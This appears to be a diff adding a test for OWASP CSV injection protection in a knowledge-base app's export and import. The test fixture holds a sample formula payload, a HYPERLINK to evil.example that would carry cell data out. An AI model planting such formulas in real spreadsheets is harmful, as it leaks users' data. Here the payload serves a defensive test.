@@ -3,6 +3,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import uuid
 from collections.abc import Callable
@@ -208,6 +210,50 @@ def test_export_round_trips_unchanged(console: Callable[[str], Console], runtime
         assert "0 to create, 0 to update" in dry.text
     data = yaml.safe_load(editor.get("/staff/knowledge/export.yaml").text)
     assert len(data["articles"]) >= 100
+
+
+def test_csv_export_neutralises_formulas_and_round_trips(
+    console: Callable[[str], Console], api: Callable[[str], TestClient]
+) -> None:
+    """OWASP CSV injection: no exported cell starts with = + - @ (or a tab or CR), and the
+    text comes back exactly as it was, a leading ' included."""
+    fields = article_fields(
+        "beehives",
+        title='=HYPERLINK("https://evil.example/?"&A1,"Beehives")',
+        short_answer="+1 555 0100 is the bee line",
+        answer="- a permit from Parks\n- a hive at least 3 m from the fence",
+        category="'=already quoted",
+        department="@Parks Office",
+        questions=["-1 bees?", "Do I need a permit for a beehive?"],
+    )
+    editor, writer = console("editor"), api("editor")
+    created = writer.post("/api/v1/staff/articles", json={"article": fields, "allow_overlap": True})
+    assert created.status_code == 201, created.text
+    for exported in (
+        editor.get("/staff/knowledge/export.csv").content,
+        writer.get("/api/v1/staff/export?format=csv").content,
+    ):
+        rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        ours = next(
+            dict(zip(rows[0], row, strict=True)) for row in rows if row[0] == fields["slug"]
+        )
+        assert ours["title"].startswith("'=HYPERLINK")
+        assert ours["category"] == "''=already quoted"
+        assert ours["questions"].startswith("'-1 bees?")
+        dry = editor.post(
+            "/staff/knowledge/import", {"mode": "check"}, files={"file": ("kb.csv", exported)}
+        )
+        assert dry.status_code == 200, dry.text[-3000:]
+        assert "0 to create, 0 to update" in dry.text  # every cell read back as it was
+    changed = exported.replace(b"'=already quoted", b"'=now changed")
+    applied = writer.post("/api/v1/staff/import?format=csv&dry_run=false", content=changed)
+    assert applied.status_code == 200, applied.text
+    article = writer.get(f"/api/v1/staff/articles/{created.json()['id']}").json()
+    assert article["category"] == "'=now changed"
+    assert article["title"] == fields["title"] and article["answer"] == fields["answer"]
+    assert article["questions"][0] == "-1 bees?"
 
 
 def test_unanswered_groups_into_variants_and_articles(
